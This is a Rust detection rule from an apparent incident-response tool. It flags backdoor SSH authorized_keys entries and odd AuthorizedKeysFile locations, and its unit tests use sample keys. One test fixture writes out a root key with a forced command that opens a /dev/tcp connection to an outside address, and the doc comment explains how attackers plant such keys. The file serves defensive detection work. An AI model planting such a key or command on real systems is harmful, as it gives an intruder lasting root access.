//! `persistence.ssh_key` — SSH keys that let someone back in: keys of root or of a service
//! account, keys with forced commands, source restrictions, environment or tunnel options, key
//! files changed inside the incident window, and an `AuthorizedKeysFile` pointing somewhere
//! anyone can write.
//!
//! **Why**: a key in `/root/.ssh/authorized_keys` survives every password reset; the Exim
//! CVE-2019-10149 wave and most Linux intrusions plant one, often with `command=` (a shell
//! that runs whatever the key holder sends, or a miner) or `from=` (only the attacker's
//! network may use it). **How**: every `authorized_keys` and `authorized_keys2` the
//! collection holds, and the files the `AuthorizedKeysFile` in force names for each account
//! (`/etc/ssh/sshd_config` and its `Include`d `sshd_config.d/*.conf`), read with
//! [`crate::hostconf::sshkeys`]; each key is named by type, comment and the start of its
//! `SHA256:` fingerprint (what `ssh-keygen -lf` prints, to compare with the responder's own
//! keys). The account whose home holds the file is the user entity. **Severity**: critical
//! for a root key with a forced command or a risky one; high for service accounts' keys, keys
//! with `command=`, `from=`, `environment=`, `permitopen=`, `permitlisten=` or `tunnel=`, a
//! root key file changed inside the window, and an `AuthorizedKeysFile` in a world-writable or
//! hidden place; medium for another key file changed inside the window and a forced command of
//! a known backup or file-transfer tool. A plain key of root, unchanged during the incident,
//! is how most servers are administered: quiet (the finding of another key says "logs in as
//! root"). **ATT&CK**: T1098.004 (Account
//! Manipulation: SSH Authorized Keys). **False positives**: administrators' own keys in
//! root's file (compare the fingerprints with the team's), backup keys restricted with
//! `from=` and `command=` (named as such).

use super::super::host::{risky_command, Cites, ConfigRule, Host};
use crate::detect::entity::{EntityKind, EntityRole};
use crate::detect::finding::{Finding, Severity};
use crate::hostconf::accounts::passwd;
use crate::hostconf::sshkeys::{authorized_keys, key_paths, sshd_settings, AuthorizedKey};

/// The rule.
pub struct SshKey;

const RULE: &str = "persistence.ssh_key";

/// Forced commands of backup and file-transfer tools (a restricted key, not a shell).
const KNOWN_FORCED: &[&str] = &[
    "rrsync",
    "rsync --server",
    "borg serve",
    "restic",
    "internal-sftp",
    "sftp-server",
    "git-shell",
    "gitolite-shell",
    "scp -t",
    "duplicity",
];

/// Why a key file's place is odd, if it is.
fn odd_key_place(path: &str) -> Option<&'static str> {
    if ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/var/lock/"]
        .iter()
        .any(|d| path.starts_with(d))
    {
        return Some("a world-writable directory");
    }
    if path.starts_with("/var/www/") || path.starts_with("/srv/www/") {
        return Some("a web root");
    }
    if path
        .split('/')
        .any(|c| c.starts_with('.') && c != ".ssh" && c != "." && c != ".." && !c.starts_with(".%"))
    {
        return Some("a hidden directory");
    }
    None
}

impl ConfigRule for SshKey {
    fn check(&self, host: &Host) -> Vec<Finding> {
        let mut out = Vec::new();
        let accounts = host
            .conf
            .get("/etc/passwd")
            .map(|f| passwd(&f.text()))
            .unwrap_or_default();
        let settings = sshd_settings(&host.conf);
        let permit_root = settings
            .iter()
            .find(|s| s.keyword == "permitrootlogin" && !s.in_match)
            .map(|s| s.value.to_ascii_lowercase());

        // The AuthorizedKeysFile lines (in force, and in Match blocks).
        let mut configured: Vec<String> = Vec::new();
        for s in settings
            .iter()
            .filter(|s| s.keyword == "authorizedkeysfile")
        {
            for p in s.value.split_whitespace() {
                configured.push(p.to_string());
                let shown = key_paths(p, "/home/USER", "USER");
                let Some(why) = shown.first().and_then(|x| odd_key_place(x)) else {
                    continue;
                };
                let c = Cites::one(&host.conf, &s.path, Some(s.line));
                out.push(c.finding(
                    RULE,
                    Severity::High,
                    vec!["T1098.004"],
                    format!("SSH server reads authorized keys from {why}: {p}"),
                    format!(
                        "{} line {}: AuthorizedKeysFile {}{} — sshd accepts every key written there; whoever can write {why} can log in as any account",
                        s.path,
                        s.line,
                        s.value,
                        if s.in_match { " (inside a Match block)" } else { "" }
                    ),
                ));
            }
        }

        // Key files: by name, and what AuthorizedKeysFile names for each account.
        let mut files: Vec<(String, Option<String>)> = Vec::new();
        for p in host.conf.files.keys() {
            let name = p.rsplit('/').next().unwrap_or(p);
            if (name == "authorized_keys" || name == "authorized_keys2") && !p.contains(':') {
                files.push((p.clone(), host.owner_of(p).map(str::to_string)));
            }
        }
        for e in &accounts {
            for pat in &configured {
                for p in key_paths(pat, &e.home, &e.name) {
                    if host.conf.get(&p).is_some() && !files.iter().any(|(f, _)| *f == p) {
                        files.push((p, Some(e.name.clone())));
                    }
                }
            }
        }

        for (path, owner) in files {
            let Some(f) = host.conf.get(&path) else {
                continue;
            };
            let owner_entry = owner
                .as_deref()
                .and_then(|o| accounts.iter().find(|e| e.name == o));
            let is_root = owner_entry.is_some_and(|e| e.uid == 0) || path.starts_with("/root/");
            let service = owner_entry.is_some_and(|e| {
                e.uid != 0
                    && (e.uid < 1000 || e.shell.ends_with("nologin") || e.shell.ends_with("/false"))
                    && !(e.uid >= 500 && e.home.starts_with("/home/"))
            });
            let backdoor_owner = owner_entry.is_some_and(|e| e.uid == 0 && e.name != "root");
            let changed_in_window = f
                .mtime
                .is_some_and(|t| host.window.is_some_and(|w| w.contains(t)));
            for k in authorized_keys(&f.text()) {
                let Some((sev, reasons)) = judge(
                    &k,
                    is_root,
                    service,
                    changed_in_window,
                    permit_root.as_deref(),
                ) else {
                    continue;
                };
                let who = owner.as_deref().unwrap_or("an unknown account");
                let c = Cites::one(&host.conf, &path, Some(k.line));
                let mut finding = c.finding(
                    RULE,
                    sev,
                    vec!["T1098.004"],
                    // The title names the reason, not the command (the summary quotes it).
                    format!(
                        "SSH key of {who}: {} — {}",
                        k.label(),
                        reasons[0].split(": ").next().unwrap_or(&reasons[0])
                    ),
                    format!(
                        "{path} line {}: {} key, comment {:?}, fingerprint {}{}: {}. Compare the fingerprint with the administrators' keys; remove the line if it is not theirs, and look for the account's other ways in",
                        k.line,
                        k.key_type,
                        k.comment,
                        k.fingerprint.as_deref().unwrap_or("(unreadable key)"),
                        if k.options.is_empty() {
                            String::new()
                        } else {
                            let o: Vec<String> = k
                                .options
                                .iter()
                                .map(|(n, v)| match v {
                                    Some(v) => format!("{n}=\"{v}\""),
                                    None => n.clone(),
                                })
                                .collect();
                            format!(", options {}", o.join(","))
                        },
                        reasons.join("; ")
                    ),
                );
                if let Some(o) = &owner {
                    let role = if backdoor_owner {
                        EntityRole::BackdoorAccount
                    } else {
                        EntityRole::VictimAccount
                    };
                    finding.entities.tag(EntityKind::User, o, role);
                }
                if let Some(from) = k.option("from") {
                    for ip in from.split(',') {
                        let ip = ip.trim().trim_start_matches('!');
                        if ip.parse::<std::net::IpAddr>().is_ok() {
                            finding.entities.ips.push(ip.to_string());
                        }
                    }
                }
                out.push(finding);
            }
        }
        out
    }
}

/// The severity and reasons of one key, if it is worth a finding.
fn judge(
    k: &AuthorizedKey,
    is_root: bool,
    service: bool,
    changed_in_window: bool,
    permit_root: Option<&str>,
) -> Option<(Severity, Vec<String>)> {
    let mut sev: Option<Severity> = None;
    let mut reasons: Vec<String> = Vec::new();
    let mut raise = |s: Severity, why: String, sev: &mut Option<Severity>| {
        *sev = Some(sev.map_or(s, |x| x.max(s)));
        reasons.push(why);
    };
    if let Some(cmd) = k.option("command") {
        let known = KNOWN_FORCED.iter().any(|t| cmd.contains(t));
        if let Some(r) = risky_command(cmd) {
            raise(
                if is_root {
                    Severity::Critical
                } else {
                    Severity::High
                },
                format!("forced command that {r}: {cmd}"),
                &mut sev,
            );
        } else if known {
            raise(
                Severity::Medium,
                format!("forced command of a backup or transfer tool: {cmd}"),
                &mut sev,
            );
        } else {
            raise(
                if is_root {
                    Severity::Critical
                } else {
                    Severity::High
                },
                format!("forced command: {cmd}"),
                &mut sev,
            );
        }
    }
    if let Some(from) = k.option("from") {
        raise(Severity::High, format!("usable only from {from}"), &mut sev);
    }
    if let Some(env) = k.option("environment") {
        raise(
            Severity::High,
            format!("sets the environment {env}"),
            &mut sev,
        );
    }
    for opt in ["permitopen", "permitlisten", "tunnel"] {
        if let Some(v) = k.option(opt) {
            raise(
                Severity::High,
                format!("opens tunnels ({opt}={v})"),
                &mut sev,
            );
        }
    }
    // A plain key of root is how most servers are administered: it is worth a finding only
    // with something else (an option above, a change inside the incident window).
    let root_note = is_root.then(|| {
        let off = matches!(permit_root, Some("no"))
            || (matches!(permit_root, Some("forced-commands-only"))
                && k.option("command").is_none());
        if off {
            format!(
                "logs in as root, though PermitRootLogin {} refuses it now",
                permit_root.unwrap_or("")
            )
        } else {
            "logs in as root".to_string()
        }
    });
    if service && !is_root {
        raise(
            Severity::High,
            "in the key file of a service account, which never logs in by key".into(),
            &mut sev,
        );
    }
    if changed_in_window {
        let s = if sev.is_some() || is_root {
            Severity::High
        } else {
            Severity::Medium
        };
        raise(
            s,
            "key file changed inside the incident window".into(),
            &mut sev,
        );
    }
    reasons.extend(root_note);
    // A key with only a restricted backup command and nothing else stays medium.
    Some((sev?, reasons))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::host::Window;
    use crate::detect::rules::config_tests::host;

    // Generated on the test machine with `ssh-keygen -t ed25519 -C admin@workstation` and
    // `ssh-keygen -t rsa -b 2048 -C root@kali`.
    const ED: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMcYVBY7zg7ObIqYy+QUvRWHkHx/eLk1Pk1/f1qOZiHT admin@workstation";
    const RSA: &str = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDWLPcTTcrUFO3i0wARU8HQc1zqTL/WQhqgKighjLQQfdkv6Gf5BB6RQsBYYDKsEna0az7LLg7ogWsH++DAHPeSw6ElfCiNNAtxbwkCGdOJpWxDdc0RMKwwWliidob8eWmnRJmj0A6c3NjvpRSkUfIGDQ3NH6/eY7kfx64PpMk4G2T3yoaG2mraO97ph4Ck/zKfHaQ1ucD6YYotdQLovcaTP6Ui+JlOxWKDPBgzTqkljKc23whckie8QWqqBASxPtQnnxTJ4aASyubVSgOxA495vYo+cCxkdw7RmoRI71ExHjKLkXseEyHZL6FgvNgfp6ceQFBHaCro6KrDrmRm2J8v root@kali";
    const PASSWD: &str = include_str!("../../../tests/fixtures/host-accounts/stock/etc/passwd");
    const SSHD: &str =
        include_str!("../../../tests/fixtures/host-accounts/stock/etc/ssh/sshd_config");

    #[test]
    fn root_keys_and_forced_commands() {
        let keys = format!(
            "{ED}\ncommand=\"/bin/bash -c 'exec 3<>/dev/tcp/203.0.113.77/443'\",no-pty {RSA}\n"
        );
        let h = host(&[
            ("/etc/passwd", PASSWD),
            ("/etc/ssh/sshd_config", SSHD),
            ("/root/.ssh/authorized_keys", &keys),
        ]);
        let f = SshKey.check(&h);
        let got: Vec<(Severity, Vec<u64>)> = f
            .iter()
            .map(|f| (f.severity, f.evidence[0].lines.clone()))
            .collect();
        assert_eq!(got, [(Severity::Critical, vec![2])], "{f:#?}");
        assert!(f[0].title.contains("root@kali"), "{}", f[0].title);
        assert!(f[0].title.contains("SHA256:G8BSUZiz7FHz"), "{}", f[0].title);
        assert!(f[0].title.contains("opens a network connection"));
        assert_eq!(f[0].entities.users, ["root"]);
    }

    #[test]
    fn service_account_key_and_options() {
        let h = host(&[
            ("/etc/passwd", PASSWD),
            (
                "/var/www/.ssh/authorized_keys",
                &format!("from=\"198.51.100.9\" {ED}\n"),
            ),
        ]);
        let f = SshKey.check(&h);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].severity, Severity::High);
        assert_eq!(f[0].entities.users, ["www-data"]);
        assert_eq!(f[0].entities.ips, ["198.51.100.9"]);
    }

    #[test]
    fn odd_authorized_keys_file() {
        let h = host(&[
            ("/etc/passwd", PASSWD),
            (
                "/etc/ssh/sshd_config",
                &format!("{SSHD}AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k/%u\n"),
            ),
            ("/var/tmp/.k/cloudsdk", &format!("{ED}\n")),
        ]);
        let f = SshKey.check(&h);
        assert_eq!(f[0].severity, Severity::High);
        assert!(f[0].title.contains("world-writable"), "{}", f[0].title);
        assert_eq!(f[0].evidence[0].lines, [SSHD.lines().count() as u64 + 1]);
    }

    #[test]
    fn key_files_changed_in_the_window() {
        let mut h = host(&[
            ("/etc/passwd", PASSWD),
            ("/home/cloudsdk/.ssh/authorized_keys", &format!("{ED}\n")),
        ]);
        // A human account's ordinary key: quiet.
        assert!(SshKey.check(&h).is_empty());
        let t = chrono::DateTime::parse_from_rfc3339("2026-03-02T10:00:00Z")
            .unwrap()
            .with_timezone(&chrono::Utc);
        if let Some(f) = h.conf.files.get_mut("/home/cloudsdk/.ssh/authorized_keys") {
            f.mtime = Some(t);
        }
        h.window = Some(Window {
            start_us: t.timestamp_micros() - 3_600_000_000,
            end_us: t.timestamp_micros() + 3_600_000_000,
        });
        let f = SshKey.check(&h);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].severity, Severity::Medium);
        assert_eq!(f[0].entities.users, ["cloudsdk"]);
    }

    #[test]
    fn ordinary_keys_and_plain_root_keys_are_quiet() {
        let h = host(&[
            ("/etc/passwd", PASSWD),
            (
                "/etc/ssh/sshd_config",
                &format!("PermitRootLogin no\n{SSHD}"),
            ),
            (
                "/home/cloudsdk/.ssh/authorized_keys",
                &format!("{ED}\n{RSA}\n"),
            ),
            ("/root/.ssh/authorized_keys", &format!("{ED}\n")),
        ]);
        // A plain key of root (how servers are administered) is quiet too.
        assert!(SshKey.check(&h).is_empty(), "{:#?}", SshKey.check(&h));
        // A backup key restricted to its tool, for a human account: medium only.
        let h = host(&[
            ("/etc/passwd", PASSWD),
            (
                "/home/cloudsdk/.ssh/authorized_keys",
                &format!("command=\"borg serve --restrict-to-path /srv/backup\",restrict {ED}\n"),
            ),
        ]);
        let f = SshKey.check(&h);
        assert_eq!(f[0].severity, Severity::Medium);
    }
}
